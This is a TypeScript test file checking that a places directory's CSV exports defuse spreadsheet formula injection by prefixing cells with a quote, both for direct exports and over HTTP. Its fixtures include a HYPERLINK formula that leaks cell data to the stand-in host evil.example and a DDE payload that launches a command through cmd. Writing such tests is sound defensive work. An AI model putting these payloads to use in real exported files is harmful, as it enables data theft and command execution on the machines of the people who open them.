import { readFileSync } from 'node:fs';
import { Writable } from 'node:stream';
import { getFromSubgraph } from '@passerelle/platform/testing';
import Papa from 'papaparse';
import { exportPlaces } from '../src/export/export-places';
import { importPlaces } from '../src/import/import-places';
import { placeIdOf } from '../src/places/place-row';
import { type DirectoryUnderTest, startDirectory } from './support/directory-server';
import { csv, validRow, writeFile } from './support/files';

let directory: DirectoryUnderTest;

beforeAll(async () => {
  directory = await startDirectory('directory_export_formulas', { seed: false });
});

afterAll(async () => {
  await directory?.stop();
});

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")';

const formulaRows = [
  { ...validRow, id: 'formula-1', nom: HYPERLINK, telephone: '+33 1 23 45 67 89' },
  { ...validRow, id: 'formula-2', nom: '@SUM(1)', presentation_resume: "+cmd|' /C calc'!A0" },
  { ...validRow, id: 'formula-3', nom: '-2+3', complement_adresse: '=1+1' },
  { ...validRow, id: 'formula-4', nom: 'Lieu à tabulation' },
];

async function exportText(format: 'csv' | 'json'): Promise<string> {
  let text = '';
  const sink = new Writable({
    write(chunk, _encoding, callback) {
      text += chunk;
      callback();
    },
  });
  await exportPlaces(directory.prisma, { datasets: ['formulas'] }, format, sink);
  return text;
}

function csvRecords(text: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
}

describe('CSV exports and spreadsheet formulas', () => {
  beforeAll(async () => {
    const report = await importPlaces({
      databaseUrl: directory.database.url,
      file: writeFile('formulas.csv', csv(formulaRows)),
      dataset: 'formulas',
    });
    expect(report.counts).toMatchObject({ created: 4, rejected: 0 });
    // Imports trim cells; text stored otherwise (older data, the database itself) may start with a tab or CR.
    await directory.prisma.place.update({
      where: { id: placeIdOf('formulas', 'formula-4') },
      data: { name: '\tx', description: '\r=1+1' },
    });
  });

  it('stores the values as given', async () => {
    const places = await directory.prisma.place.findMany({
      where: { dataset: 'formulas' },
      orderBy: { externalId: 'asc' },
    });
    expect(places.map((place) => place.name)).toEqual([HYPERLINK, '@SUM(1)', '-2+3', '\tx']);
  });

  it('prefixes cells that would run as formulas with a quote, keeping valid phones and coordinates', async () => {
    const records = csvRecords(await exportText('csv'));
    const byId = Object.fromEntries(records.map((record) => [record.id, record]));
    expect(records.map((record) => record.nom).sort()).toEqual(
      [`'${HYPERLINK}`, "'@SUM(1)", "'-2+3", "'\tx"].sort(),
    );
    expect(byId['formula-2']?.presentation_resume).toBe("'+cmd|' /C calc'!A0");
    expect(byId['formula-3']?.complement_adresse).toBe("'=1+1");
    expect(byId['formula-4']?.presentation_detail).toBe("'\r=1+1");
    // Valid for their column as the standard defines it: exactly as stored.
    expect(byId['formula-1']?.telephone).toBe('+33123456789');
    for (const record of records) {
      expect(record.longitude).toBe('-0.5007');
      expect(record.latitude).toBe('43.8911');
      expect(record.date_maj).toBe('2026-10-01');
    }
  });

  it('neutralises the HTTP CSV export the same way, and leaves JSON as stored', async () => {
    const base = directory.server.url.replace(/\/graphql$/, '');
    const filter = encodeURIComponent(JSON.stringify({ datasets: ['formulas'] }));
    const response = await getFromSubgraph(`${base}/export/places.csv?filter=${filter}`);
    expect(response.status).toBe(200);
    const names = csvRecords(await response.text()).map((record) => record.nom);
    expect(names).toContain(`'${HYPERLINK}`);
    expect(names.every((name) => name?.startsWith("'"))).toBe(true);

    const json = JSON.parse(await exportText('json')) as { nom: string; telephone: string | null }[];
    expect(json.map((record) => record.nom).sort()).toEqual([HYPERLINK, '@SUM(1)', '-2+3', '\tx'].sort());
  });

  it('writes a CSV that still validates against the standard', async () => {
    const file = writeFile('formulas-export.csv', await exportText('csv'));
    const report = await importPlaces({
      databaseUrl: directory.database.url,
      file,
      dataset: 'formulas-check',
      dryRun: true,
    });
    expect(report.fatal).toBeNull();
    expect(report.rejected).toEqual([]);
    expect(report.warnings).toEqual([]);
    expect(report.counts).toMatchObject({ read: 4, created: 4, rejected: 0 });
    expect(readFileSync(file, 'utf8').split('\n')[0]).toMatch(/^id,pivot,nom,/);
  });
});
